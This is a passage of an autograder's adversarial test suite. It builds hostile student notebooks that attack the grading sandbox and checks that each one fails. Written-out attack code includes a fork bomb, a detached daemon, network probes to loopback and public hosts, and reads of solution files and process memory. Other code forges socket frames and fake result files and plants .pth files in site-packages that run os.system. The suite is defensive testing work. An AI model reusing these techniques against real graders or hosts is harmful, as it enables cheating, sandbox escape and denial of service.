"""The adversarial and fault suite: submissions that try to fool or break the grader.

ONE batch, graded with the command an instructor types (``python -m autograder grade ...``,
two workers), holds two honest submissions and every attack below. Each attack is built
from the honest submission of ``01_derivatives`` (made at test time from the current
solutions and release, see ``fixtures``): most pair a wrong ``tanh_grad`` (the bug catalog's
"1 - tanh(x)", wrong at the visible example) with a trick that tries to hide it, so the
right score is known exactly: ``test_tanh_grad`` earns 0 with a message that says what is
wrong, and every other test earns what the honest submission earns. After the batch: every
input file is byte-identical, no sandbox process is left, nothing appeared where the
submissions tried to write, and a TCP server on the host's loopback saw no connection.

The issue's list, by case name: (1) a01, (2) a02, (3) a03/a03b, (4) a04, (5) a05, (6) a06,
(7) a07, (8) a08, (9) a09, (10) a10, (11) a11, (12) a12/a12b, (13) a13_*, (14) a14,
(15) a15. Cases x_* are further attacks: objects with ``__array__``; reading the
instructor's hidden tests out of the sandbox's own memory (a sandbox used to be a fork of
the worker that held them); forged frames on the sandbox's socket (huge, deeply nested,
absurdly long); NaN; exhausting disk, files and threads; warnings silenced by `np.seterr` and
warning filters in a cell (NumPy's defaults and recording are back for every call). Two small checks at the end, on one
sandbox each, cover draws from a test's Generator and dtype arguments.

Run: ``.venv/bin/python -m pytest tests/grader/test_adversarial.py`` (about 2-3 minutes on 2
cores; it needs Linux namespaces, and skips the batch with a reason where they are missing).
"""

from __future__ import annotations

import copy
import functools
import hashlib
import json
import os
import re
import shutil
import socket
import subprocess
import sys
import sysconfig
import textwrap
import threading
import time
import uuid
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
import pytest

from autograder.grader.submission import SubmissionResult
from autograder.notebook import nbgrader_cells
from autograder.sandbox.isolation import probe
from coursebuild.course import ROOT, assignment as find_assignment

from . import fixtures as F
from .fixtures import file_hashes, process_names, sandbox_processes

pytestmark = pytest.mark.slow

ASSIGNMENT = find_assignment("01_derivatives")
NOTEBOOK = ASSIGNMENT.notebook_id
TARGET = "tanh_grad"
TEST_SECONDS, CELL_SECONDS, MEMORY_MB, WORKERS = 10, 10, 1024, 2
# An unusual --submission-timeout marks this run: it is in the workers' command line, which
# every process forked from them (zygotes, monitors, sandboxes) shows too; so processes left
# over from this batch can be told from those of another grader running on the same machine.
SUBMISSION_SECONDS = 700 + (uuid.uuid4().int % 1000 + 1) / 1000
MARKER = f'"submission_seconds": {SUBMISSION_SECONDS}'.encode()   # in this batch's command lines
SEED = "20240601"                 # BFS_TEST_SEED: the same random trials in every run
HONEST = ("honest", "honest_alt")
MODE = probe()


# ============================================================================ the attacks

@dataclass
class Context:
    """What the attack code may aim at (the paths of this run)."""

    root: Path          # the repository (its autograder/, coursekit/, .venv are mounted read-only)
    course: Path        # the course being graded (a copy of solutions/ and notebooks/ for 01)
    subs: Path          # the submissions
    out: Path           # the grader's output folder
    port: int           # a TCP server on the host's loopback
    udp_port: int
    unix_name: str      # an abstract UNIX socket on the host
    token: str          # unique file names for this run
    hidden_hashes: list[str] = field(default_factory=list)

    @property
    def sneaky_paths(self) -> list[Path]:
        """New files the a14 submission tries to create outside its scratch directory."""
        site = Path(sysconfig.get_paths()["purelib"])
        name = f"pwned-{self.token}"
        return [self.root / name, self.root / "solutions" / name, self.root / "autograder" / f"{name}.py",
                self.root / "coursekit" / f"{name}.py", site / f"{name}.pth",
                self.course / name, self.course / "solutions" / ASSIGNMENT.name / name,
                self.subs / "a14_writes_outside" / ASSIGNMENT.name / name,
                self.subs / "honest" / ASSIGNMENT.name / name, self.out / name,
                self.out / ASSIGNMENT.name / "honest" / name, Path("/tmp") / f"bfs-adversarial-{self.token}",
                Path("/etc") / name, Path("/usr/lib") / name, Path("/root") / name, Path("/var/tmp") / name]

    @property
    def repo_files(self) -> list[Path]:
        """Repository files the a14 submission opens for appending (without writing to them)."""
        return [self.root / "autograder" / "checks.py", self.root / "autograder" / "testcell.py",
                self.root / "README.md"]

    @property
    def touched_files(self) -> list[Path]:
        """Input files (temporary copies) the a14 submission appends to."""
        return [self.course / "solutions" / ASSIGNMENT.name / ASSIGNMENT.notebook,
                self.subs / "honest" / ASSIGNMENT.name / ASSIGNMENT.notebook]


def wrong_tanh() -> str:
    entry = next(e for e in F.catalog(ASSIGNMENT) if e.function.__name__ == "tanh_grad_no_square")
    return F.entry_source(entry)


def code(text: str, **values) -> str:
    """Dedented attack code with ``values`` substituted as Python literals."""
    text = textwrap.dedent(text).strip("\n") + "\n"
    for key, value in values.items():
        text = text.replace(f"__{key.upper()}__", repr(value))
    return text


def cell_of(nb, grade_id: str):
    return next(c for c in nb.cells if isinstance(c.get("metadata", {}).get("nbgrader"), dict)
                and c.metadata.nbgrader.get("grade_id") == grade_id)


@functools.cache
def _honest():
    return F.honest(ASSIGNMENT)


def honest_nb():
    return copy.deepcopy(_honest())


def wrong_nb(extra: str = "") -> nbformat.NotebookNode:
    """The honest submission with the wrong tanh_grad, plus ``extra`` in the same cell."""
    return F.with_answer(honest_nb(), TARGET, wrong_tanh() + "\n" + extra)


def a01(ctx):  # wrong gradient + np.allclose / np.testing patched to always agree
    return wrong_nb(code("""
        import numpy, numpy.testing
        numpy.allclose = lambda *args, **kwargs: True
        numpy.isclose = lambda a, b, *args, **kwargs: numpy.ones(numpy.broadcast(a, b).shape, dtype=bool)
        numpy.array_equal = lambda *args, **kwargs: True
        numpy.testing.assert_allclose = lambda *args, **kwargs: None
        numpy.testing.assert_array_almost_equal = lambda *args, **kwargs: None
        numpy.testing.assert_equal = lambda *args, **kwargs: None
    """))


def a02(ctx):  # wrong gradient + the check helpers and the proxy internals replaced
    return wrong_nb(code("""
        import os, sys, types
        import autograder.checks as ck
        import autograder.testcell as testcell
        from autograder.sandbox import agent, session, wire

        def _never_fails(*args, **kwargs):
            return None

        for _name in ("check_close", "check_scalar", "check_gradient", "check_gradients",
                      "check_shape", "check_dtype", "fail", "as_array"):
            setattr(ck, _name, _never_fails)
        ck.call = lambda fn, *args, name=None, forbid_warnings=False, **kwargs: fn(*args, **kwargs)
        ck.CheckFailure = type("NeverRaised", (Exception,), {})
        testcell.run_test_cell = lambda source, namespace, *, grade_id, max_points: \\
            testcell.CellOutcome(grade_id, max_points, max_points)
        session.StudentFunction.__call__ = lambda self, *args, **kwargs: 1 - np.tanh(args[0]) ** 2
        session.Sandbox.call = lambda self, name, args, kwargs, deadline: 1 - np.tanh(args[0]) ** 2
        wire.TrustedDecoder.tagged = lambda self, tag, node: None
        agent._mutations = lambda *args, **kwargs: []
        # a fake autograder package first on the path, for anything imported later
        os.makedirs("autograder", exist_ok=True)
        with open("autograder/__init__.py", "w") as handle:
            handle.write("")
        with open("autograder/checks.py", "w") as handle:
            handle.write("def __getattr__(name):\\n    return lambda *a, **k: None\\n")
        sys.modules["autograder.checks"] = types.SimpleNamespace(__getattr__=lambda name: _never_fails)
        sys.settrace(lambda frame, event, arg: None)   # trace the test's frames (if it could see them)
    """))


def a03(ctx):  # the input-transformer trick: every later cell (restored tests too) is blanked
    return wrong_nb("get_ipython().input_transformers_cleanup.append(lambda lines: [])\n")


def a03b(ctx):  # the same trick, aimed only at test cells
    return wrong_nb(code("""
        def _hide_tests(lines):
            text = "".join(lines)
            return [] if ("ck." in text or "HIDDEN TESTS" in text) else lines
        get_ipython().input_transformers_cleanup.append(_hide_tests)
    """))


def a04(ctx):  # sys.exit, os._exit, killing its own process, a crash; and a cell that exits
    nb = honest_nb()
    nb = F.with_answer(nb, "numerical_gradient", code("""
        def numerical_gradient(f, x, h=1e-5):
            import sys
            sys.exit("grading is over")
    """))
    nb = F.with_answer(nb, "relative_error", code("""
        def relative_error(a, b):
            import os
            os._exit(0)
    """))
    nb = F.with_answer(nb, TARGET, code("""
        def tanh_grad(x):
            import os, signal
            os.kill(os.getpid(), signal.SIGKILL)
            os.abort()
    """))
    nb = F.with_answer(nb, "relu_grad", code("""
        def relu_grad(x):
            import ctypes
            ctypes.memmove(16, b"crash", 5)   # write to an unmapped address
    """))
    return F.insert_code_cell(nb, "import os\nos._exit(1)\n", after="setup")


def a05(ctx):  # an infinite loop in one function, and one in a cell of its own
    nb = F.with_answer(honest_nb(), TARGET, "def tanh_grad(x):\n    while True:\n        pass\n")
    return F.insert_code_cell(nb, "while True:\n    pass\n", after="setup")


def a06(ctx):  # allocating 50 GB at once, and memory a piece at a time
    nb = F.with_answer(honest_nb(), TARGET, code("""
        def tanh_grad(x):
            big = np.ones(50 * 2**30 // 8)
            return big[:x.size].reshape(x.shape)
    """))
    nb = F.with_answer(nb, "relu_grad", code("""
        def relu_grad(x):
            hoard = []
            while True:
                hoard.append(np.ones(2**24))   # 128 MB, touched
    """))
    return F.insert_code_cell(nb, "everything = bytearray(50 * 2**30)\n", after="setup")


def a07(ctx):  # a fork bomb; and a double-forked, setsid daemon that would outlive grading
    nb = F.with_answer(honest_nb(), TARGET, code("""
        def tanh_grad(x):
            import os
            while True:
                os.fork()
    """))
    return F.insert_code_cell(nb, code("""
        import ctypes, os, time
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                ctypes.CDLL(None).prctl(15, __NAME__.encode(), 0, 0, 0)   # PR_SET_NAME
                ctypes.CDLL(None).prctl(1, 0, 0, 0, 0)                    # no parent-death signal
                time.sleep(600)
            os._exit(0)
    """, name=f"bfs{ctx.token[:10]}"), after="setup")


def a08(ctx):  # network: the host's loopback (TCP, UDP), an abstract UNIX socket, the outside world
    nb = F.with_answer(honest_nb(), TARGET, code("""
        def tanh_grad(x):
            import socket
            with socket.create_connection(("127.0.0.1", __PORT__), timeout=3) as connection:
                connection.sendall(x.tobytes())
                return np.frombuffer(connection.recv(1 << 16), dtype=x.dtype).reshape(x.shape)
    """, port=ctx.port))
    return F.insert_code_cell(nb, code("""
        import socket
        reached = {}
        for address in [("127.0.0.1", __PORT__), ("::1", __PORT__), ("10.0.2.2", __PORT__),
                        ("8.8.8.8", 53), ("1.1.1.1", 443)]:
            try:
                family = socket.AF_INET6 if ":" in address[0] else socket.AF_INET
                with socket.socket(family, socket.SOCK_STREAM) as s:
                    s.settimeout(2)
                    s.connect(address)
                    s.sendall(b"hello from the sandbox")
                    reached[address] = "connected"
            except OSError as error:
                reached[address] = repr(error)
        try:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
                s.sendto(b"hello from the sandbox", ("127.0.0.1", __UDP__))
        except OSError as error:
            reached["udp"] = repr(error)
        try:
            with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
                s.settimeout(2)
                s.connect(__UNIX__)
                reached["unix"] = "connected"
        except OSError as error:
            reached["unix"] = repr(error)
        print(reached)
    """, port=ctx.port, udp=ctx.udp_port, unix=ctx.unix_name), after="setup")


def a09(ctx):  # reading solutions/, the gradebook, other students' files, other processes
    wanted = [ctx.course / "solutions" / ASSIGNMENT.name / ASSIGNMENT.notebook,
              ROOT / "solutions" / ASSIGNMENT.name / ASSIGNMENT.notebook,
              ctx.course / "gradebook.db", ROOT / "gradebook.db",
              ROOT / "tests" / "bugcatalog" / "a01_derivatives.py",
              ctx.subs / "honest" / ASSIGNMENT.name / ASSIGNMENT.notebook,
              ctx.out / ASSIGNMENT.name / "honest" / f"{NOTEBOOK}.result.json"]
    return F.with_answer(honest_nb(), TARGET, code("""
        def tanh_grad(x):
            import glob, json, os
            tried = []
            for path in __WANTED__ + ["../../solutions/01_derivatives/derivatives.ipynb",
                                       "/proc/1/root" + __WANTED__[0]]:
                try:
                    with open(path, "rb") as handle:
                        handle.read(100)
                    return 1 - np.tanh(x) ** 2       # a readable answer key would pay off
                except OSError as error:
                    tried.append(f"{path}: {type(error).__name__}")
            for status in glob.glob("/proc/[0-9]*/status"):
                try:
                    with open(status) as handle:
                        if "Uid:\t0\t" in handle.read():
                            return 1 - np.tanh(x) ** 2   # a process of the grader (root) is visible
                except OSError:
                    pass
            raise FileNotFoundError("nothing readable: " + "; ".join(tried[:3]))
    """, wanted=[str(p) for p in wanted]))


def a10(ctx):  # printing "All tests passed", writing fake results.json files
    fake = {"score": 999, "tests": [{"name": "everything", "score": 999, "max_score": 16, "status": "passed"}]}
    targets = ["results.json", "../results.json", "/tmp/results.json",
               str(ctx.out / ASSIGNMENT.name / "a10_fake_results" / "results.json"),
               str(ctx.out / ASSIGNMENT.name / "a10_fake_results" / f"{NOTEBOOK}.result.json"),
               str(ctx.out / ASSIGNMENT.name / "honest" / "results.json"), str(ctx.out / "grades.csv")]
    return wrong_nb(code("""
        import json, os
        for _ in range(20):
            print("All tests passed")
        print("Score: 16/16")
        for _path in __TARGETS__:
            try:
                os.makedirs(os.path.dirname(os.path.abspath(_path)), exist_ok=True)
                with open(_path, "w") as handle:
                    json.dump(__FAKE__, handle)
            except OSError:
                pass
    """, targets=targets, fake=fake))


def a11(ctx):  # 100 MB of output from a cell, and more from every call
    nb = F.with_answer(honest_nb(), TARGET, wrong_tanh() + code("""
        _original_tanh_grad = tanh_grad
        def tanh_grad(x):
            print("All tests passed " * 60000)   # ~1 MB per call
            return _original_tanh_grad(x)
    """))
    return F.insert_code_cell(nb, code("""
        import sys
        chunk = "x" * 2**20
        for _ in range(100):
            sys.stdout.write(chunk)
        for _ in range(10):
            sys.stderr.write(chunk)
    """), after="setup")


def a12(ctx):  # test cells edited, deleted, duplicated, retyped; new ones with many points
    nb = wrong_nb()
    mine = cell_of(nb, f"test_{TARGET}")
    mine.source, mine.metadata.nbgrader["points"] = "pass", 100
    nb.cells.remove(cell_of(nb, "test_relu_grad"))
    duplicate = copy.deepcopy(cell_of(nb, "test_softmax"))
    duplicate.source, duplicate.id = "pass", "test-softmax-copy"
    nb.cells.insert(nb.cells.index(cell_of(nb, "test_softmax")), duplicate)   # the first copy wins
    retyped = cell_of(nb, "test_sigmoid")
    nb.cells[nb.cells.index(retyped)] = nbformat.v4.new_markdown_cell(retyped.source, metadata=retyped.metadata)
    renamed = cell_of(nb, "test_cross_entropy")
    renamed.metadata.nbgrader.update(grade_id="test_cross_entropy_easy", points=50)
    renamed.source = "pass"
    bonus = nbformat.v4.new_code_cell("pass", metadata={"nbgrader": {
        "grade": True, "grade_id": "test_bonus", "locked": True, "points": 100, "solution": False,
        "task": False, "schema_version": 3}})
    nb.cells.append(bonus)
    return nb


def a12b(ctx):  # answer cells renamed or retyped, the read-only cell edited, metadata garbage
    nb = wrong_nb()
    cell_of(nb, "relu_grad").metadata.nbgrader["grade_id"] = "my_relu_grad"   # runs as the student's own code
    sigmoid = cell_of(nb, "sigmoid")
    nb.cells[nb.cells.index(sigmoid)] = nbformat.v4.new_markdown_cell(sigmoid.source, metadata=sigmoid.metadata)
    setup = cell_of(nb, "setup")
    setup.source = "import numpy as np\nnp.allclose = lambda *args, **kwargs: True\n" + setup.source
    cell_of(nb, "test_softmax").metadata["nbgrader"] = "garbage"
    cross = cell_of(nb, "test_cross_entropy")
    cross.metadata.nbgrader.update(points="lots", grade_id=["not", "a", "string"])
    return nb


def honest_json(ctx) -> bytes:
    return nbformat.writes(honest_nb()).encode()


def a13_corrupt_json(ctx):
    data = honest_json(ctx)
    return data[: len(data) // 2]


def a13_empty(ctx):
    return b""


def a13_nbformat3(ctx):
    raw = json.loads(honest_json(ctx))
    raw["nbformat"] = 3
    return json.dumps(raw).encode()


def a13_not_a_notebook(ctx):
    return b'{"cells": 5, "nbformat": 4}'


def a13_invalid_cells(ctx):
    raw = json.loads(honest_json(ctx))
    del raw["cells"][1]["source"]
    return json.dumps(raw).encode()


def a14(ctx):  # writing outside the scratch directory
    return wrong_nb(code("""
        import os
        _written = []
        for _path in __NEW__:
            try:
                os.makedirs(os.path.dirname(_path), exist_ok=True)
                with open(_path, "w") as handle:
                    handle.write("import os; os.system('echo pwned')\\n")
                _written.append(_path)
            except OSError:
                pass
        for _path in __REPO__:
            try:
                open(_path, "ab").close()
                print("REPOSITORY FILE WRITABLE:", _path)
            except OSError:
                pass
        for _path in __TEMP__:
            try:
                with open(_path, "ab") as handle:
                    handle.write(b"pwned")
                _written.append(_path)
            except OSError:
                pass
        print("written (inside the sandbox, if anywhere):", _written)
    """, new=[str(p) for p in ctx.sneaky_paths], repo=[str(p) for p in ctx.repo_files],
        temp=[str(p) for p in ctx.touched_files]))


def a15(ctx):  # an ndarray subclass whose comparisons always say "equal"
    return F.with_answer(honest_nb(), TARGET, code("""
        class AlwaysRight(np.ndarray):
            def __eq__(self, other):
                return np.ones(self.shape, dtype=bool)
            def __ne__(self, other):
                return np.zeros(self.shape, dtype=bool)
            def __sub__(self, other):
                return np.zeros(self.shape)
            __rsub__ = __sub__
            def __abs__(self):
                return np.zeros(self.shape)
            def astype(self, *args, **kwargs):
                return self
            def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
                return np.zeros(np.broadcast(*[np.asarray(i) for i in inputs]).shape, dtype=bool
                                if ufunc.__name__ in ("equal", "isclose") else float)

        def tanh_grad(x):
            return np.zeros_like(x).view(AlwaysRight)
    """))


def x_array_like(ctx):  # objects with __array__ / __array_interface__ instead of arrays
    return F.with_answer(honest_nb(), TARGET, code("""
        class LooksLikeAnArray:
            def __init__(self, x):
                self._value = 1 - np.tanh(x)
                self.__array_interface__ = self._value.__array_interface__
                self.shape, self.dtype = self._value.shape, self._value.dtype
            def __array__(self, dtype=None, copy=None):
                return self._value
            def __eq__(self, other):
                return True

        def tanh_grad(x):
            return LooksLikeAnArray(x)
    """))


def x_memory_thief(ctx):  # read the instructor's tests out of the sandbox's own memory
    return F.with_answer(honest_nb(), TARGET, code("""
        def tanh_grad(x):
            import gc, hashlib, sys
            marker = bytes([35, 35, 35, 32]) + b"BEGIN HIDDEN" + b" TESTS" + bytes([10])
            wanted = set(__HASHES__)
            frame = sys._getframe()
            while frame is not None:               # the frames of whoever forked this process
                if "source_nb" in frame.f_locals or "plan" in frame.f_locals:
                    return 1 - np.tanh(x) ** 2
                frame = frame.f_back
            for obj in gc.get_objects():           # every object: notebooks, plans, cells
                if type(obj).__name__ in ("NotebookNode", "Plan", "Step", "SourceCache"):
                    return 1 - np.tanh(x) ** 2
            import ctypes
            scanned, step = 0, 2**26
            with open("/proc/self/maps") as maps:
                regions = [line.split() for line in maps]
            for fields in regions:                 # every byte of anonymous memory, read directly
                start, end = (int(v, 16) for v in fields[0].split("-"))
                if not fields[1].startswith("r") or (len(fields) > 5 and fields[5] not in ("[heap]", "[stack]")):
                    continue
                for offset in range(start, end, step):
                    data = ctypes.string_at(offset, min(step + 200, end - offset))
                    scanned += min(step, end - offset)
                    at = data.find(marker)
                    while at >= 0:
                        if hashlib.sha256(data[at + len(marker):at + len(marker) + 64]).hexdigest() in wanted:
                            return 1 - np.tanh(x) ** 2
                        at = data.find(marker, at + 1)
            raise LookupError(f"nothing to steal in {scanned / 2**20:.0f} MB of memory")
    """, hashes=ctx.hidden_hashes))


def x_forged_frames(ctx):  # write malformed frames straight onto the sandbox's socket
    nb = honest_nb()
    find_socket = code("""
        def _channel_fds():
            import os
            fds = []
            for name in os.listdir("/proc/self/fd"):
                try:
                    if os.readlink(f"/proc/self/fd/{name}").startswith("socket:"):
                        fds.append(int(name))
                except OSError:
                    pass
            return fds
    """)
    nb = F.with_answer(nb, TARGET, find_socket + code("""
        def tanh_grad(x):   # a 100 MB JSON header: gigabytes of objects if it were parsed
            import os, struct
            header = b"[" + b"0," * (50 * 2**20) + b"0]"
            for fd in _channel_fds():
                os.write(fd, struct.pack("<Q", 4 + len(header)) + struct.pack("<I", len(header)))
                os.write(fd, header)
            return 1 - np.tanh(x) ** 2
    """))
    nb = F.with_answer(nb, "relu_grad", find_socket + code("""
        def relu_grad(x):   # JSON nested 100000 deep
            import os, struct
            header = b"[" * 100000 + b"]" * 100000
            for fd in _channel_fds():
                os.write(fd, struct.pack("<Q", 4 + len(header)) + struct.pack("<I", len(header)) + header)
            return (x > 0).astype(x.dtype)
    """))
    nb = F.with_answer(nb, "relative_error", find_socket + code("""
        def relative_error(a, b):   # an absurd length
            import os, struct
            for fd in _channel_fds():
                os.write(fd, struct.pack("<Q", 2**62))
            return 0.0
    """))
    return F.insert_code_cell(nb, find_socket + code("""
        import os, struct
        _header = b'{"op": "reply", "id": "t1", "ok": true, "blobs": [], "n": ' + b"9" * 100000 + b"}"
        for _fd in _channel_fds():   # a 100000-digit integer while a cell runs
            os.write(_fd, struct.pack("<Q", 4 + len(_header)) + struct.pack("<I", len(_header)) + _header)
    """), after="setup")


def x_nan(ctx):  # NaN and inf against the comparisons
    return F.with_answer(honest_nb(), TARGET, "def tanh_grad(x):\n    return np.full_like(x, np.nan)\n")


def x_resources(ctx):  # fill /home/student and /tmp, use up file descriptors and threads
    return wrong_nb(code("""
        import os, threading, time
        _chunk = b"x" * 2**20
        for _folder in ("/home/student", "/tmp", "/dev/shm"):
            try:
                with open(os.path.join(_folder, "filler"), "wb") as handle:
                    for _ in range(1024):
                        handle.write(_chunk)
            except OSError as error:
                print(_folder, "full:", error)
        _kept = []
        try:
            while True:
                _kept.append(open("/dev/null"))
        except OSError as error:
            print("files:", len(_kept), error)
        _threads = []
        try:
            for _ in range(1000):
                _thread = threading.Thread(target=time.sleep, args=(3600,), daemon=True)
                _thread.start()
                _threads.append(_thread)
        except RuntimeError as error:
            print("threads:", len(_threads), error)
    """))


def x_silenced_warnings(ctx):  # an overflowing sigmoid, its warnings silenced in a cell of its own
    nb = F.with_answer(honest_nb(), "sigmoid", "def sigmoid(x):\n    return 1 / (1 + np.exp(-x))\n")
    return F.insert_code_cell(nb, code("""
        import warnings
        import numpy as np
        np.seterr(all="ignore")
        warnings.simplefilter("ignore")
    """), after="setup")


def honest_alt(ctx):  # valid alternative implementations from the bug catalog keep full marks
    nb = honest_nb()
    for target in (TARGET, "relu_grad"):
        entry = next(e for e in F.catalog(ASSIGNMENT, "alternative") if e.target == target)
        nb = F.with_answer(nb, target, F.entry_source(entry))
    return nb


@dataclass(frozen=True)
class Case:
    student: str
    build: object
    fails: dict              # test grade_id -> regex its message must match (it earns 0)
    status: str = "graded"
    reason: str = ""         # regex for the result's reason (submissions that cannot be graded)
    notes: tuple = ()        # regexes, each matching one of the result's notes


WRONG = r"tanh_grad: .*is wrong"
NOT_DEFINED = r"not defined"
CASES = [
    Case("a01_patched_numpy", a01, {f"test_{TARGET}": WRONG}),
    Case("a02_patched_checks", a02, {f"test_{TARGET}": WRONG}),
    Case("a03_blank_later_cells", a03, {f"test_{TARGET}": WRONG, "test_relu_grad": NOT_DEFINED,
                                        "test_softmax": NOT_DEFINED, "test_cross_entropy": NOT_DEFINED,
                                        "test_checkpoint_softmax_jacobian": NOT_DEFINED,
                                        "test_checkpoint_softmax_cross_entropy_grad": NOT_DEFINED,
                                        "test_softmax_cross_entropy_grad": NOT_DEFINED}),
    Case("a03b_blank_test_cells", a03b, {f"test_{TARGET}": WRONG}),
    Case("a04_exits", a04, {"test_numerical_gradient": r"raised SystemExit: grading is over",
                            "test_relative_error": r"exited with status 0",
                            f"test_{TARGET}": r"crashed|signal|killed",
                            "test_relu_grad": r"segmentation fault"},
         notes=(r"stopped the notebook: it exited with status 1",)),
    Case("a05_infinite_loop", a05, {f"test_{TARGET}": r"ran past its time limit"},
         notes=(rf"stopped the notebook: it was stopped: it ran past its time limit of {CELL_SECONDS} s",)),
    Case("a06_memory", a06, {f"test_{TARGET}": r"raised MemoryError", "test_relu_grad": r"raised MemoryError"},
         notes=(r"raised MemoryError",)),
    # the reply that follows the refused fork is where the sandbox is stopped (cgroups), or the
    # BlockingIOError itself (the /proc-polling fallback, where only the watchdog counts tasks)
    Case("a07_fork_bomb", a07, {f"test_{TARGET}": r"more processes and threads at once than its limit"
                                                  r"|BlockingIOError|Resource temporarily unavailable"}),
    Case("a08_network", a08, {f"test_{TARGET}": r"OSError: .*Network is unreachable"}),
    Case("a09_reads_secrets", a09, {f"test_{TARGET}": r"FileNotFoundError: nothing readable"}),
    Case("a10_fake_results", a10, {f"test_{TARGET}": WRONG}),
    Case("a11_output_flood", a11, {f"test_{TARGET}": WRONG}),
    Case("a12_edited_tests", a12, {f"test_{TARGET}": WRONG},
         notes=(rf"test cell 'test_{TARGET}' was edited", r"test cell 'test_relu_grad' was deleted",
                r"'test_softmax' appears more than once", r"unknown id 'test_cross_entropy_easy'",
                r"unknown id 'test_bonus'")),
    Case("a12b_changed_ids", a12b, {f"test_{TARGET}": WRONG, "test_sigmoid": NOT_DEFINED,
                                    "test_sigmoid_grad": NOT_DEFINED},
         notes=(r"'sigmoid' was changed into a markdown cell", r"unknown id 'my_relu_grad'",
                r"read-only cell 'setup' was edited")),
    Case("a13_corrupt_json", a13_corrupt_json, {}, "error", r"not valid JSON"),
    Case("a13_empty", a13_empty, {}, "error", r"the file is empty"),
    Case("a13_nbformat3", a13_nbformat3, {}, "error", r"nbformat 3 is not supported"),
    Case("a13_not_a_notebook", a13_not_a_notebook, {}, "error", r"not a notebook"),
    Case("a13_invalid_cells", a13_invalid_cells, {}, "error", r"not a valid nbformat-4 notebook"),
    Case("a13_symlink_to_solutions", None, {}, "error", r"symbolic link"),
    Case("a13_missing", None, {}, "error", r"cannot be read"),
    Case("a14_writes_outside", a14, {f"test_{TARGET}": WRONG}),
    Case("a15_ndarray_subclass", a15, {f"test_{TARGET}": r"subclass of numpy.ndarray"}),
    Case("x_silenced_warnings", x_silenced_warnings, {"test_sigmoid": r"sigmoid emitted RuntimeWarning: overflow",
                                                   "test_sigmoid_grad": r"sigmoid_grad emitted RuntimeWarning: overflow"}),
    Case("x_array_like", x_array_like, {f"test_{TARGET}": r"is a LooksLikeAnArray, not a numpy array"}),
    Case("x_memory_thief", x_memory_thief, {f"test_{TARGET}": r"raised LookupError: nothing to steal"}),
    Case("x_forged_frames", x_forged_frames, {f"test_{TARGET}": r"malformed message \(a message header of",
                                              "test_relu_grad": r"malformed message \(header is not JSON",
                                              "test_relative_error": r"malformed message \(message of"},
         notes=(r"malformed message \(header is not JSON",)),
    Case("x_nan", x_nan, {f"test_{TARGET}": r"contains nan"}),
    Case("x_resources", x_resources, {f"test_{TARGET}": WRONG}),
]


# ============================================================================ the batch

class LoopbackServer:
    """TCP and UDP sockets on 127.0.0.1 and an abstract UNIX socket (which belongs to the
    host's network namespace) that count what reaches them."""

    def __init__(self):
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.tcp.settimeout(0.1)
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.udp.setblocking(False)
        self.unix_name = f"\0bfs-adversarial-{uuid.uuid4().hex}"
        self.unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.unix.bind(self.unix_name)
        self.unix.listen()
        self.unix.settimeout(0.1)
        self.port, self.udp_port = self.tcp.getsockname()[1], self.udp.getsockname()[1]
        self.connections, self.datagrams = [], []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self):
        while not self._stop.is_set():
            try:
                connection, address = self.tcp.accept()
                self.connections.append(address)
                connection.close()
            except OSError:
                pass
            try:
                self.datagrams.append(self.udp.recvfrom(65536))
            except OSError:
                pass
            try:
                connection, _ = self.unix.accept()
                self.connections.append("abstract unix socket")
                connection.close()
            except OSError:
                pass

    def close(self):
        self._stop.set()
        self._thread.join()
        self.tcp.close()
        self.udp.close()
        self.unix.close()








def hidden_test_hashes() -> list[str]:
    """sha256 of the 64 bytes after each test cell's hidden-tests marker, in the source."""
    marker = "### BEGIN HIDDEN TESTS\n"
    hashes = []
    for cell in nbgrader_cells(F.source(ASSIGNMENT)):
        if cell.kind == "test" and marker in cell.source:
            text = cell.source.split(marker, 1)[1].encode()
            hashes.append(hashlib.sha256(text[:64]).hexdigest())
    return hashes


@dataclass
class Batch:
    ctx: Context
    results: dict
    completed: subprocess.CompletedProcess
    seconds: float
    before: dict
    after: dict
    touched_before: dict
    processes_before: set
    processes_after: set
    names_after: set
    server: LoopbackServer

    def result(self, student: str) -> SubmissionResult:
        assert student in self.results, (f"no result for {student}; the grader said:\n"
                                         f"{self.completed.stdout[-3000:]}\n{self.completed.stderr[-3000:]}")
        return self.results[student]


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    if not MODE.strong:
        pytest.skip(f"strong sandboxes are unavailable here ({MODE.reason}); the suite checks them")
    base = tmp_path_factory.mktemp("adversarial")
    server = LoopbackServer()
    ctx = Context(ROOT, base / "course", base / "subs", base / "out", server.port, server.udp_port,
                  server.unix_name, uuid.uuid4().hex, hidden_test_hashes())
    for folder in ("solutions", "notebooks"):   # a snapshot of the course: others may edit the real one
        shutil.copytree(ASSIGNMENT.source.parent if folder == "solutions" else F.release_folder(ASSIGNMENT),
                        ctx.course / folder / ASSIGNMENT.name)
    for student in HONEST:
        F.write(honest_nb() if student == "honest" else honest_alt(ctx),
                F.submission_path(ctx.subs, student, ASSIGNMENT))
    for case in CASES:
        path = F.submission_path(ctx.subs, case.student, ASSIGNMENT)
        if case.build is not None:
            F.write(case.build(ctx), path)
        elif "symlink" in case.student:
            path.parent.mkdir(parents=True)
            path.symlink_to(ctx.course / "solutions" / ASSIGNMENT.name / ASSIGNMENT.notebook)
        else:
            path.parent.mkdir(parents=True)
    for path in ctx.touched_files + ctx.sneaky_paths:
        assert not path.is_symlink()
    before = file_hashes(ctx.subs, ctx.course)
    touched_before = {str(p): hashlib.sha256(p.read_bytes()).hexdigest() for p in ctx.touched_files}
    processes_before = sandbox_processes(MARKER)

    command = [sys.executable, "-m", "autograder", "grade", str(ctx.subs), "--course", str(ctx.course),
               "--out", str(ctx.out), "--workers", str(WORKERS), "--no-gradebook",
               "--test-timeout", str(TEST_SECONDS), "--cell-timeout", str(CELL_SECONDS),
               "--memory-mb", str(MEMORY_MB), "--submission-timeout", str(SUBMISSION_SECONDS)]
    started = time.perf_counter()
